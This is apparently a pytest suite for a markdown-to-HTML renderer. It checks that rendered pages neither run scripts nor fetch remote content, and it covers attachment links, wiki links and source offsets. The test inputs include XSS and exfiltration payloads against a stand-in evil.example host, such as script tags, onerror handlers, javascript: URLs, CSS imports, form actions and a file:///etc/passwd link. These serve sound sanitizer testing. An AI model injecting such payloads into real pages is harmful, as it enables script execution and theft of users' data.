"""A document's page: safe, in place, and fetching nothing."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cortex.text.html import to_html


def page(text: str) -> str:
    return to_html(text, resolve=lambda target: "/d/7" if target in ("Known", "notes/known.md") else None)


class _Fetches(HTMLParser):
    """Whatever in a page could run or load."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in (
            "script",
            "style",
            "img",
            "iframe",
            "svg",
            "link",
            "object",
            "embed",
            "video",
            "audio",
            "form",
            "base",
            "meta",
        ):
            self.found.append(tag)
        for name, value in attrs:
            if name.startswith("on") or name in ("style", "src", "srcset", "background", "action", "poster", "ping"):
                self.found.append(name)
            if name == "href" and not re.match(r"https?:|mailto:|/d/7$", value or ""):
                self.found.append(f"{name}={value}")


def fetches(written: str) -> list[str]:
    parser = _Fetches()
    parser.feed(written)
    return parser.found


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<img src=http://evil.example/x onerror=alert(1)>",
        "![x](https://evil.example/?q=secret)",
        "![x][1]\n\n[1]: https://evil.example/a.png",
        "[a](javascript:alert(1)) [b](data:text/html,x) [c](vbscript:x) <a href='javascript:x'>d</a>",
        "<div style='background:url(http://evil.example)' onclick=x>a</div>",
        "<style>@import url(http://evil.example)</style>",
        "<svg><image href='http://evil.example'/></svg><iframe src=//evil.example></iframe><object data=x></object>",
        "<form action=http://evil.example><input type=text autofocus onfocus=x><button>a</button></form>",
        "<base href=http://evil.example><meta http-equiv=refresh content='0;url=http://evil.example'><link rel=stylesheet href=x>",
        "<a href=//evil.example>a</a> [b](//evil.example) [c](file:///etc/passwd) [d](\\\\evil\\share)",
        "<img\nsrc='http://evil.example/x'\n>",
        "[[Known|<img src=http://evil.example>]] [[<script>]]",
        "<video src=http://evil.example autoplay></video><audio src=x></audio>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
    ],
)
def test_nothing_runs_and_nothing_is_fetched(text: str) -> None:
    assert fetches(page(text)) == []


def test_what_is_attached_is_shown_and_opened_from_here() -> None:
    address = f"/api/attachments/{'ab' * 32}?name=a%20%28b%29.pdf"
    written = page(f"![a](<{address}>) [paper]({address}) <img src='{address}'>")
    assert written.count(f'<span class="local-image" data-path="{address}">') == 2
    assert f'<a href="{address}"' in written
    assert fetches(written) == [f"href={address}"]
    for other in (f"/api/attachments/{'AB' * 32}", "/api/attachments/../notes", f"/api/attachments/{'ab' * 32}/x", "/api/status",
                  f"//evil.example/api/attachments/{'ab' * 32}", f"/api/attachments/{'ab' * 32}?thumb=1"):  # fmt: skip
        assert "<a" not in page(f"[x]({other})")


def test_remote_images_are_placeholders_that_name_the_host() -> None:
    address = "https://example.com/x.png?id=1"
    placeholder = f'<span class="remote-image" data-host="example.com" data-src="{address}">a chart</span>'
    assert placeholder in page(f"![a chart]({address})")
    assert "data-src" not in page("![x](javascript://example.com/x)")
    assert '<span class="local-image" data-path="img/a b.png">b</span>' in page("![b](img/a%20b.png)")
    assert 'data-host="example.com"' in page("<p><img src='https://example.com/x.png' alt='c'></p>")


def test_pitfall_6_wiki_links_resolve_or_stay_words() -> None:
    assert '<a href="/d/7" data-note="Known" rel="noopener noreferrer nofollow">this one</a>' in page(
        "see [[Known|this one]]"
    )
    assert '<span class="unresolved" data-note="Other">Other › Part</span>' in page("see [[Other#Part]]")
    assert '<a href="/d/7" data-note="notes/known.md"' in page("[words](notes/known.md#part)")
    assert '<p data-s="0" data-e="19"><span>words</span></p>' in page("[words](unknown.md)")
    assert 'data-path="pic.png"' in page("![[pic.png]]")


def test_blocks_carry_their_places() -> None:
    text = "# 标题 🎉\n\nFirst *words*.\n\n- one\n- two\n\n```py\nx\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n"
    places = {(int(s), int(e)) for s, e in re.findall(r'data-s="(\d+)" data-e="(\d+)"', page(text))}
    pieces = {text[start:end] for start, end in places}
    assert {"# 标题 🎉", "First *words*.", "- one", "- two", "```py\nx\n```", "| 1 | 2 |"} <= pieces


def test_places_hold_beside_embedded_files_and_raw_html() -> None:
    text = "![x](data:image/png;base64," + "A" * 300 + ")\n\n<div>raw</div>\n\nafter\n"
    found = re.search(r'<p data-s="(\d+)" data-e="(\d+)">after', page(text))
    assert found
    assert text[int(found[1]) : int(found[2])] == "after"


def test_an_open_tag_in_raw_html_does_not_take_in_what_follows() -> None:
    assert page("<details><summary>a\n\n# After\n").count("<h1") == 1
    assert "</details></div>" in page("<details><summary>a\n\n# After\n")


def test_task_lists_tables_and_language() -> None:
    written = page(
        "今天做了什么，明天做什么。\n\nAn English paragraph in between.\n\n- [x] done\n- [ ] 待办\n\n| a |\n|:-:|\n| 1 |\n"
    )
    assert '<input type="checkbox" disabled="" checked="">' in written
    assert re.search(r'<p data-s="\d+" data-e="\d+" lang="en">An English', written)
    assert '<th data-align="center">' in written


@given(st.text(alphabet=st.sampled_from("<>/ a=\"'![]()#|`*_-\n\t:&;img onerror.scripty"), max_size=200))
def test_whatever_is_written_nothing_is_fetched(text: str) -> None:
    assert fetches(page(text)) == []


def test_naughty_strings_are_safe(naughty: list[str]) -> None:
    for text in naughty:
        assert fetches(page(text)) == []


def test_hostile_texts_are_shown_all_the_same(hostile: str) -> None:
    assert fetches(page(hostile)) == []
